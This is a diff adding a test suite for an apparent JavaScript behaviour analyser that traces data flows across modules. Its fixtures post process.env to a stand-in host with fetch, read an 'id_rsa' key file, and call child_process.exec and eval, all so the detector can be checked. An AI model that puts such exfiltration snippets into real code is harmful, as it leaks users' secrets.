@@ -1,0 +1,146 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';
+
+const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
+const SENT = 'process.env → fetch as content';
+
+/** Where the method is that sends, and the files. */
+const METHODS: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
+  [
+    'of a class that is the module',
+    { 'index.js': `const C = require('./c'); new C('u').post(process.env)`, 'c.js': `module.exports = class { post(b) { ${POST} } }` },
+  ],
+  [
+    'of a named class',
+    {
+      'index.js': `const { C } = require('./c'); const c = new C(); c.post(process.env)`,
+      'c.js': `exports.C = class { post(b) { ${POST} } }`,
+    },
+  ],
+  [
+    'of an object of a class',
+    { 'index.js': `require('./c').post(process.env)`, 'c.js': `class C { post(b) { ${POST} } } module.exports = new C()` },
+  ],
+  [
+    'of an object',
+    { 'index.js': `const { api } = require('./c'); api.post(process.env)`, 'c.js': `exports.api = { post(b) { ${POST} } }` },
+  ],
+  [
+    'of what a factory makes',
+    { 'index.js': `require('./c')('u').post(process.env)`, 'c.js': `module.exports = u => ({ post(b) { ${POST} } })` },
+  ],
+  [
+    'of a class that a factory makes one of',
+    { 'index.js': `require('./c').make().post(process.env)`, 'c.js': `class C { post(b) { ${POST} } } exports.make = () => new C()` },
+  ],
+  [
+    'that is inherited',
+    {
+      'index.js': `const B = require('./c'); class A extends B { go() { this.post(process.env) } } new A().go()`,
+      'c.js': `module.exports = class { post(b) { ${POST} } }`,
+    },
+  ],
+  [
+    'that is called by super',
+    {
+      'index.js': `const { B } = require('./c'); class A extends B { go() { super.post(process.env) } } new A().go()`,
+      'c.js': `exports.B = class { post(b) { ${POST} } }`,
+    },
+  ],
+  [
+    'that gives the data',
+    {
+      'index.js': `const R = require('./c'); const b = new R().read(); ${POST}`,
+      'c.js': `module.exports = class { read() { return process.env } }`,
+    },
+  ],
+  [
+    'that another file chooses by name',
+    { 'index.js': `const steps = require('./c'); steps[process.argv[2]](process.env)`, 'c.js': `exports.post = b => ${POST}` },
+  ],
+];
+
+describe('a method of another file', () => {
+  for (const [where, files] of METHODS) {
+    it(where, () => {
+      const found = flowLines(files);
+      assert.ok(found.includes(SENT), found.join('\n'));
+    });
+  }
+
+  it('is the constructor of a class without one', () => {
+    const { effects } = behaviourOf({
+      'index.js': `const B = require('./c'); class A extends B {} new A()`,
+      'c.js': `module.exports = class { constructor() { fetch('https://a.invalid') } }`,
+    });
+    assert.deepEqual(effects.map(lineOf), ['import connects fetch(https://a.invalid)']);
+  });
+
+  it('is no more than offered where nobody calls it', () => {
+    const { effects } = behaviourOf({ 'index.js': `exports.C = require('./c')`, 'c.js': `module.exports = class { post(b) { ${POST} } }` });
+    assert.deepEqual(effects.map(lineOf), ['call connects fetch(https://a.invalid)']);
+  });
+
+  it('is not what a test calls it with', () => {
+    const { effects } = behaviourOf({
+      'index.js': `exports.read = path => require('fs').readFileSync(path)`,
+      'test/a.js': `require('../index.js').read('id_rsa')`,
+    });
+    assert.deepEqual(
+      effects.filter(effect => effect.target.includes('id_rsa')),
+      [],
+    );
+  });
+});
+
+const RUN = `cp.exec('a b')`;
+
+/** How a file hands on what is not its own, and the files. */
+const LENT: readonly (readonly [string, Readonly<Record<string, string | object>>])[] = [
+  ['as a member', { 'index.js': `const { cp } = require('./a'); ${RUN}`, 'a.js': `exports.cp = require('child_process')` }],
+  ['in an object', { 'index.js': `const { cp } = require('./a'); ${RUN}`, 'a.js': `module.exports = { cp: require('child_process') }` }],
+  ['as itself', { 'index.js': `const cp = require('./a'); ${RUN}`, 'a.js': `module.exports = require('child_process')` }],
+  [
+    'one function of it',
+    { 'index.js': `require('./a').run('a b')`, 'a.js': `const { exec } = require('child_process'); module.exports = { run: exec }` },
+  ],
+  ['deep in an object', { 'index.js': `require('./a').of.cp.exec('a b')`, 'a.js': `exports.of = { cp: require('child_process') }` }],
+  [
+    'by a getter',
+    { 'index.js': `require('./a').cp.exec('a b')`, 'a.js': `module.exports = { get cp() { return require('child_process') } }` },
+  ],
+  ['all of it', { 'index.js': `import { exec } from './a.js'; exec('a b')`, 'a.js': `export * from 'node:child_process'` }],
+  [
+    'over a third file',
+    {
+      'index.js': `require('./a').exec('a b')`,
+      'a.js': `module.exports = require('./b')`,
+      'b.js': `module.exports = require('child_process')`,
+    },
+  ],
+];
+
+describe('what a file hands on', () => {
+  for (const [how, files] of LENT) {
+    it(`${how} is what it is where it is used`, () => {
+      const { effects } = behaviourOf(files);
+      assert.deepEqual(effects.map(lineOf), ['import spawns child_process.exec(a b)']);
+    });
+  }
+
+  it('is known where it is a global', () => {
+    const { effects } = behaviourOf({ 'index.js': `require('./a').go('1 + 1')`, 'a.js': `exports.go = eval` });
+    assert.deepEqual(effects.map(lineOf), ['import evaluates eval(1 + 1)']);
+  });
+
+  it('in a circle is nothing', () => {
+    const files = {
+      'index.js': `require('./a').exec('a b')`,
+      'a.js': `module.exports = require('./b')`,
+      'b.js': `module.exports = require('./a')`,
+    };
+    assert.deepEqual(behaviourOf(files).effects, []);
+  });
+});
